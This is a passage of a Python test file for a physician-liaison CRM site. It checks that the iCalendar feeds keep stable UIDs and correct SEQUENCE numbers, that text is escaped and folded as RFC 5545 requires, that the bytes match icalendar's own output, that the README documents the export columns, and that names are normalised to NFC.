    for name in ("calendar/kim-ruiz.ics", "calendar/lena-brooks.ics"):
        assert visit in summary_dates(cals[name]), name
    assert summary_dates(cals["calendar.ics"]).count(visit) == 1
    uids = {str(e["UID"]) for name in ("calendar.ics", "calendar/kim-ruiz.ics",
                                        "calendar/lena-brooks.ics")
            for e in events_of(cals[name]) if str(e["SUMMARY"]) == visit[0]}
    assert len(uids) == 1  # one event, the same in every calendar


def test_calendar_for_a_liaison_without_events(example_site):
    (example_site / "data/team/zoe-park.yaml").write_text(
        "name: Zoe Park\nrole: liaison\n", encoding="utf-8")
    c = load(example_site)
    cals = exports.calendars(c.site, c.stats, D)
    assert sorted(cals) == ["calendar.ics", "calendar/lena-brooks.ics", "calendar/owen-price.ics",
                            "calendar/zoe-park.ics"]
    cal = Calendar.from_ical(cals["calendar/zoe-park.ics"])
    assert events_of(cals["calendar/zoe-park.ics"]) == []
    assert str(cal["X-WR-CALNAME"]) == "Blue Ridge Vein & Vascular — Zoe Park"


def _icalendar_types_unknown_properties_as_text(monkeypatch):
    """icalendar as it was before 7.3 (pyproject allows 5.0): a property it knows no type
    for, such as X-WR-CALNAME, is TEXT, and its value escaped when written."""
    from icalendar import Calendar, cal

    factory = getattr(Calendar, "types_factory", None) or cal.types_factory
    if "unknown" in factory:
        monkeypatch.setitem(factory, "unknown", factory["text"])


@pytest.mark.parametrize("icalendar_before_7_3", [False, True])
def test_a_calendars_name_is_escaped_as_the_text_it_is(example_site, monkeypatch,
                                                       icalendar_before_7_3):
    """X-WR-CALNAME, a non-standard property, is TEXT (RFC 5545 §3.8.8.2: their default
    value type): a comma, a semicolon and a backslash are escaped as in a SUMMARY. They were
    written as they are (icalendar knows no type for it), so a practice named "Hart, Lowe &
    Partners" or a member "Zoe Park, RN; front \\ desk" made a name a calendar app reads
    with a stray backslash escape. Escaped once, whatever icalendar does with an unknown
    property: before 7.3 it escaped it again ("Blue Ridge\\\\\\, Vein")."""
    if icalendar_before_7_3:
        _icalendar_types_unknown_properties_as_text(monkeypatch)
    site_yaml = example_site / "site.yaml"
    site_yaml.write_text(site_yaml.read_text(encoding="utf-8").replace(
        "name: Blue Ridge Vein & Vascular", 'name: "Blue Ridge, Vein & Vascular"', 1), encoding="utf-8")
    name = "Zoe Park, RN; front \\ desk"
    (example_site / "data/team/zoe-park.yaml").write_text(
        f'name: "{name.replace(chr(92), chr(92) * 2)}"\nrole: liaison\n', encoding="utf-8")
    c = load(example_site)
    cals = exports.calendars(c.site, c.stats, D)
    for path, title in (("calendar.ics", "Blue Ridge, Vein & Vascular — follow-ups and visits"),
                        ("calendar/zoe-park.ics", f"Blue Ridge, Vein & Vascular — {name}")):
        unfolded = cals[path].decode("utf-8").replace("\r\n ", "")
        line = next(x for x in unfolded.split("\r\n") if x.startswith("X-WR-CALNAME:"))
        assert line == "X-WR-CALNAME:" + rfc5545_escape(title)
        event = Calendar.from_ical(f"BEGIN:VEVENT\r\nSUMMARY:{line.partition(':')[2]}\r\nEND:VEVENT\r\n")
        assert str(event["SUMMARY"]) == title  # read back as a calendar app reads a TEXT


def test_calendar_uid_survives_rescheduling_and_stays_unique(example_site):
    c = load(example_site)
    before = {str(e["SUMMARY"]): str(e["UID"])
              for e in events_of(exports.calendars(c.site, c.stats, D)["calendar.ics"])}
    hv = example_site / "data/interactions/2026/11/2026-11-19-hendersonville-visit.yaml"
    hv.write_text(hv.read_text(encoding="utf-8").replace("due: 2026-11-26", "due: 2026-12-04")
                  + "  - task: Drop off the holiday schedule\n    due: 2026-12-20\n",
                  encoding="utf-8")
    c = load(example_site)
    events = events_of(exports.calendars(c.site, c.stats, D)["calendar.ics"])
    uids = [str(e["UID"]) for e in events]
    assert len(uids) == len(set(uids)) == 5
    holiday = [e for e in events if "holiday" in str(e["SUMMARY"])]
    assert [e.decoded("DTSTART") for e in holiday] == [dt.date(2026, 12, 4), dt.date(2026, 12, 20)]
    key = f"Follow-up: Drop off the holiday schedule ({HV})"
    assert before[key] in {str(e["UID"]) for e in holiday}


def test_a_rescheduled_follow_up_is_a_newer_version_of_its_event(example_site):
    """A follow-up moved to another day keeps its UID, and a calendar app takes the move only
    from a newer version of the event: Google Calendar kept a subscribed event on its old day
    while its SEQUENCE stayed 0. SEQUENCE is the number of days from the interaction to the
    as-of date: the same for the same data and date, and higher in every build of a later
    day, whatever changed."""
    def sequences(root, as_of):
        c = load(root, as_of)
        return {str(e["SUMMARY"]): (str(e["UID"]), int(e["SEQUENCE"]), e.decoded("DTSTART"))
                for e in events_of(exports.calendars(c.site, c.stats, as_of)["calendar.ics"])}

    key = f"Follow-up: Drop off the holiday schedule ({HV})"
    before = sequences(example_site, D)
    # logged 2026-11-19, as of 2026-11-26: seven days, in every calendar the same
    assert before[key][1:] == (7, dt.date(2026, 11, 26))
    assert before == sequences(example_site, D)
    hv = example_site / "data/interactions/2026/11/2026-11-19-hendersonville-visit.yaml"
    hv.write_text(hv.read_text(encoding="utf-8").replace("due: 2026-11-26", "due: 2026-12-04"),
                  encoding="utf-8")
    after = sequences(example_site, D + dt.timedelta(days=1))
    assert after[key] == (before[key][0], 8, dt.date(2026, 12, 4))
    assert all(after[s][1] == before[s][1] + 1 for s in before)
    data = exports.calendars(*(lambda c: (c.site, c.stats))(load(example_site)), D)
    for cal in data.values():  # after the UID, as icalendar orders an event's properties
        assert re.findall(rb"\r\nUID:[^\r]*\r\n(SEQUENCE:\d+)\r\n", cal) == \
            re.findall(rb"\r\n(SEQUENCE:\d+)\r\n", cal)


def rfc5545_texts(data: bytes, name: str) -> list[str]:
    """The TEXT values of the ``name`` properties of a calendar, read as RFC 5545 says
    (§3.1 unfolding, §3.3.11 escapes, left to right) and as calendar programs read them;
    not with icalendar's parser, which reads the escaped backslash of ``\\\\N`` as the
    start of a line break. Fails on a line over 75 octets or an escape RFC 5545 has not."""
    lines = data.split(b"\r\n")
    assert lines.pop() == b"" and all(len(line) <= 75 for line in lines)
    unfolded = data.replace(b"\r\n ", b"").decode("utf-8").split("\r\n")
    escapes = {"\\": "\\", ";": ";", ",": ",", "n": "\n", "N": "\n"}
    values = []
    for line in unfolded:
        head, _colon, value = line.partition(":")
        if head.split(";")[0] != name:
            continue
        out, i = [], 0
        while i < len(value):
            if value[i] == "\\":
                out.append(escapes[value[i + 1]])  # a KeyError is an escape RFC 5545 has not
                i += 2
            else:
                out.append(value[i])
                i += 1
        values.append("".join(out))
    return values


def test_a_backslash_before_an_n_reads_back_as_written(example_site):
    """A task naming a folder (``S:\\Referrals\\New offices``) reads in a calendar program as
    written: its backslashes escaped, not ``\\N`` taken for a line break (which showed
    ``S:\\Referrals`` and, on the next line, ``ew offices``)."""
    task = "Scan the form to S:\\Referrals\\New offices\\Notes, then call"
    hv = example_site / "data/interactions/2026/11/2026-11-19-hendersonville-visit.yaml"
    append(hv, f"  - task: '{task}'\n    due: 2026-12-04\n")
    c = load(example_site)
    data = exports.calendars(c.site, c.stats, D)["calendar.ics"]
    assert f"Follow-up: {task} ({HV})" in rfc5545_texts(data, "SUMMARY")
    assert any(d.startswith(f"Task: {task}\nDue: 2026-12-04\n")
               for d in rfc5545_texts(data, "DESCRIPTION"))


def test_an_event_says_what_kind_of_interaction_it_came_from_in_words(example_site):
    """An event's description names the interaction it came from by its type ("From the
    email of 2026-11-23"), and one of type ``other`` as an interaction: it read "From the
    other of 2026-11-23" in the calendar program."""
    vargas = example_site / "data/interactions/2026/11/2026-11-23-vargas-email.yaml"
    vargas.write_text(vargas.read_text(encoding="utf-8").replace("type: email", "type: other")
                      + "next_visit: 2026-12-02\nfollow_ups:\n"
                      "  - task: Mail the pelvic vein handout\n    due: 2026-12-01\n",
                      encoding="utf-8")
    c = load(example_site)
    data = exports.calendars(c.site, c.stats, D)["calendar.ics"]
    mine = [d for d in rfc5545_texts(data, "DESCRIPTION") if "2026-11-23" in d]
    assert len(mine) == 2, mine  # the follow-up and the planned visit
    for text in mine:
        assert "From the interaction of 2026-11-23, logged by Lena Brooks: Emailed Dr. " \
            "Vargas the pelvic vein referral criteria." in text, text
    assert b"From the other of" not in data
    assert b"From the visit of 2026-11-19" in data.replace(b"\r\n ", b"")  # others by type


def test_calendars_refuse_stats_of_another_date(example):
    with pytest.raises(ValueError):
        exports.calendars(example.site, example.stats, dt.date(2026, 11, 27))


def test_calendar_bytes_are_icalendars_own_serialization(example_site):
    """Events are serialized once and spliced into each calendar: the result must be what
    icalendar itself writes for the whole calendar."""
    append(example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml",
           "next_visit: 2026-12-03\n")
    c = load(example_site)
    for data in exports.calendars(c.site, c.stats, D).values():
        assert Calendar.from_ical(data).to_ical() == data


def rfc5545_escape(value) -> str:
    """A TEXT value escaped as RFC 5545 §3.3.11 says, line breaks as ``\\n``: icalendar's
    escaping, without its first step, which takes a backslash before an ``N`` for a line
    break."""
    return (str(value).replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")
            .replace("\r\n", "\\n").replace("\n", "\\n").replace("\r", "\\n"))


def _icalendar_vevent(uid: str, item, stamp: dt.datetime, monkeypatch) -> bytes:
    """The event as icalendar itself serializes it (what exports._vevent must give), its
    texts escaped by ``rfc5545_escape``."""
    import sys

    from icalendar import Event
    from icalendar.prop import vText

    # the escaping vText.to_ical calls: icalendar.prop.text._escape_char since 7.0,
    # icalendar.prop.escape_char before
    module = sys.modules[vText.__module__]
    monkeypatch.setattr(module, "_escape_char" if hasattr(module, "_escape_char")
                        else "escape_char", rfc5545_escape)
    ev = Event()
    ev.add("uid", uid)
    ev.add("sequence", (stamp.date() - item.logged).days)
    ev.add("dtstamp", stamp)
    ev.add("dtstart", item.day)
    ev.add("dtend", item.day + dt.timedelta(days=1))
    ev.add("summary", item.summary)
    ev.add("description", item.description)
    if item.location:
        ev.add("location", item.location)
    ev.add("categories", [item.kind])
    ev.add("transp", "TRANSPARENT")
    # (icalendar 5.0.0 and 5.0.1 wrote VALUE=DATE-TIME, DTSTAMP's only type, as a parameter)
    return ev.to_ical().replace(b"\r\nDTSTAMP;VALUE=DATE-TIME:", b"\r\nDTSTAMP:")


def _as_icalendar_writes(data: bytes) -> bytes:
    """A calendar's bytes, unfolded where the icalendar installed folds otherwise: before
    7.3 it folded inside an escape (``\\`` at a line's end, ``n`` at the next one's start),
    which RFC 5545 allows; exports folds between escapes, as icalendar 7.3 does."""
    from importlib.metadata import version

    if tuple(int(x) for x in version("icalendar").split(".")[:2]) >= (7, 3):
        return data
    return data.replace(b"\r\n ", b"")


def test_events_are_written_as_icalendar_writes_them(monkeypatch):
    """exports._vevent writes the VEVENT itself (icalendar's serialization was most of the
    calendars' time): the same bytes as icalendar (but for a backslash before an N, which
    icalendar takes for a line break) for texts made of what escaping and folding treat
    specially (backslash and caret at a fold, multi-octet characters across one, every line
    break, a literal \\N), at every length around the fold; read as RFC 5545 says, each
    text is the one written, its line breaks as LF."""
    import random

    rng = random.Random(16)
    ascii = ["a", "Z", " ", ",", ";", "\\", "^", ":", '"', "\n", "\r", "\r\n", "\\N", "\t", "'"]
    wide = ["é", "—", "漢", "😀"]
    stamp = dt.datetime(2026, 11, 26, tzinfo=dt.timezone.utc)
    pieces = ascii

    def text(n):
        return "".join(rng.choice(pieces) if rng.random() < 0.4 else "x" for _ in range(n))

    checked, days = 0, {}
    for n in [*range(0, 160), *range(160, 400, 7)]:
        for pieces in (ascii, ascii, ascii + wide):  # ASCII alone is folded by length
            item = exports._Item(
                key="k", kind=rng.choice(["follow-up", "visit"]),
                day=dt.date(2026, 1, 1) + dt.timedelta(days=rng.randrange(4000)),
                summary="Follow-up: " + text(n), description=text(n * 2),
                location=rng.choice([None, text(n)]), member="t-1",
                logged=dt.date(2026, 1, 1) - dt.timedelta(days=rng.randrange(4000)))
            uid = f"follow-up-{rng.getrandbits(160):040x}@liaison"
            expected = _icalendar_vevent(uid, item, stamp, monkeypatch)
            assert _as_icalendar_writes(exports._vevent(uid, item, stamp)) == \
                _as_icalendar_writes(expected), n
            for name, value in (("SUMMARY", item.summary), ("DESCRIPTION", item.description),
                                ("LOCATION", item.location or None)):  # (no empty one)
                read = rfc5545_texts(expected, name)
                assert read == ([] if value is None else [
                    value.replace("\r\n", "\n").replace("\r", "\n")]), (n, name)
            # the lines of each day kept between events, as ``calendars`` keeps them
            assert _as_icalendar_writes(exports._vevent(uid, item, stamp, days)) == \
                _as_icalendar_writes(expected), n
            checked += 1
    assert checked == 3 * (160 + len(range(160, 400, 7)))
    assert 100 < len(days) < checked  # some days' lines were taken from the kept ones


def test_a_follow_up_s_key_is_the_json_of_its_fields():
    """``_follow_up_key`` writes the JSON of the fields a follow-up's UID is the digest of
    itself: the same text as ``json.dumps`` (a changed byte would change the UID, and
    calendar programs would show the follow-up twice), for tasks and ids with quotes,
    backslashes, control characters and characters outside ASCII."""
    import random
    from types import SimpleNamespace

    rng = random.Random(11)
    pieces = ['"', "\\", "/", "\n", "\t", "\x00", "\x1f", "\x7f", "é", "\u2028", "😀", "a", " "]

    def text(n):
        return "".join(rng.choice(pieces) for _ in range(n))

    for n in range(200):
        r = SimpleNamespace(date=dt.date(2020, 1, 1) + dt.timedelta(days=n * 13),
                            practice=rng.choice([None, "p-1", text(n % 7)]),
                            physicians=[text(k + 1) for k in range(n % 4)],
                            liaison=rng.choice(["t-1", text(3)]))
        task = text(n % 40)
        assert exports._follow_up_key(r, task) == exports._key(
            "follow-up", r.date.isoformat(), r.practice, list(r.physicians), r.liaison, task)


def test_text_values_are_escaped_as_before_when_nothing_needs_it():
    """``_text`` returns a value with nothing to escape as it is (most names and ids): the
    same as the replacements it makes of the others."""
    import random

    rng = random.Random(5)
    pieces = ["a", "N", "\\", ";", ",", "\r", "\n", "é", "\u2028", "\x0b", "\x0c", "\x85"]
    for n in range(2000):
        value = "".join(rng.choice(pieces) for _ in range(n % 12))
        assert exports._text(value) == rfc5545_escape(value), repr(value)


def test_a_build_writes_the_calendars_from_the_pages_index_as_they_are_made_alone(tmp_path):
    """A build gives ``calendars`` the open follow-ups from the pages' index (in due-date
    order): its feeds are the ones made by looking through every interaction, and their
    order does not matter."""
    import subprocess
    import sys

    from liaison.pages.view import SiteView
    from liaison.pipeline import build

    repo = Path(__file__).resolve().parent.parent
    root = tmp_path / "gen"
    subprocess.run([sys.executable, str(repo / "bench" / "generate.py"), str(root),
                    "--physicians", "60", "--seed", "3"], check=True, capture_output=True)
    build(root, D, tmp_path / "out")
    checked = load(root)
    alone = exports.calendars(checked.site, checked.stats, D)
    opened = list(exports._open(checked.site, D))
    assert len(opened) > 20
    assert alone == exports.calendars(checked.site, checked.stats, D, opened[::-1])
    assert b"Follow-up: " in alone["calendar.ics"]
    # the interactions that may plan a visit, as the pages' index lists them (the calendars
    # no longer look through every interaction for them)
    view = SiteView(checked.site, checked.stats, D, None)
    planning = [r for r in checked.site.interactions
                if r.next_visit is not None and r.next_visit >= D and r.date <= D]
    assert view.planned_visits == planning and len(planning) > 3
    assert alone == exports.calendars(checked.site, checked.stats, D, opened, planning)
    assert alone["calendar.ics"].count(b"SUMMARY:Visit: ") > 3
    written = {rel: (tmp_path / "out" / rel).read_bytes() for rel in alone}
    assert written == alone


def test_the_as_of_days_own_interaction_plans_and_opens_follow_ups(example_site):
    """An interaction dated the as-of date itself (age 0) counts: its open follow-up is open
    in interactions.csv and in the calendar, and a next visit planned for that same day is
    an event."""
    append(example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml",
           "next_visit: 2026-11-26\nfollow_ups:\n  - task: Send the lunch menu\n"
           "    due: 2026-11-30\n")
    c = load(example_site)
    row = next(r for r in dicts_of(exports.interactions_csv(c.site, D))
               if r["date"] == "2026-11-26" and r["summary"].startswith("Confirmed next week"))
    assert (row["follow_ups"], row["open_follow_ups"]) == ("1", "1")
    everyone = summary_dates(exports.calendars(c.site, c.stats, D)["calendar.ics"])
    assert ("Follow-up: Send the lunch menu (Mountain View Family Medicine)",
            dt.date(2026, 11, 30)) in everyone
    assert ("Visit: Mountain View Family Medicine", D) in everyone


def test_a_uid_is_numbered_only_when_its_key_is_shared(example):
    """Each event's UID is its kind and the SHA-1 of its key; a "-2" is added only to a
    second event of the same key."""
    events = events_of(exports.calendars(example.site, example.stats, D)["calendar.ics"])
    assert events
    for e in events:
        assert re.fullmatch(r"(follow-up|visit)-[0-9a-f]{40}@liaison", str(e["UID"])), e["UID"]


# ------------------------------------------------------------------------- documentation


def test_the_readme_names_every_column_of_the_exports_in_order():
    """An analyst reads what each column holds in the README's paragraph on the exports:
    every column of every CSV is named there, in the file's order."""
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("*The exports*"):readme.index("*The calendars*")]
    files = (("physicians.csv", exports.PHYSICIAN_COLUMNS),
             ("practices.csv", exports.PRACTICE_COLUMNS),
             ("interactions.csv", exports.INTERACTION_COLUMNS),
             ("referrals-by-month.csv", exports.MONTH_COLUMNS))
    starts = [section.index(f"`{name}`") for name, _columns in files] + [len(section)]
    for (name, columns), start, end in zip(files, starts, starts[1:]):
        part, at = section[start:end], 0
        for column in columns:
            found = part.find(f"`{column}`", at)
            assert found >= 0, f"{name}: `{column}` is not named after what precedes it"
            at = found + len(column) + 2


def test_text_written_decomposed_as_macos_pastes_it_is_read_composed(tmp_path):
    """A name typed or pasted on a Mac comes decomposed ("Élodie" as E and a combining
    accent): the pages looked the same, but the exports, decks and calendars carried it so,
    where Excel's Find for "Élodie" typed on Windows (one character) missed it. Text is read
    in NFC, whichever way the file wrote it; a file already in NFC reads as it is."""
    import unicodedata

    from conftest import one_physician_site

    nfd = unicodedata.normalize("NFD", "Élodie Lefèvre")
    root = one_physician_site(tmp_path / "site", "- {date: 2026-11-02, liaison: lou, type: visit,"
                              f" practice: solo, summary: Met {nfd}., met_with: [{nfd}]}}\n")
    (root / "data/physicians/elodie.yaml").write_text(
        f"name: {nfd}\nspecialty: Family medicine\npractice: solo\n", encoding="utf-8")
    checked = load(root)
    site = checked.site
    assert site.physicians["elodie"].name == "Élodie Lefèvre"
    text = exports.physicians_csv(site, checked.stats).decode("utf-8")
    assert "Élodie Lefèvre" in text and nfd not in text
    lines = exports.interactions_csv(site).decode("utf-8")
    assert "Met Élodie Lefèvre." in lines and nfd not in lines
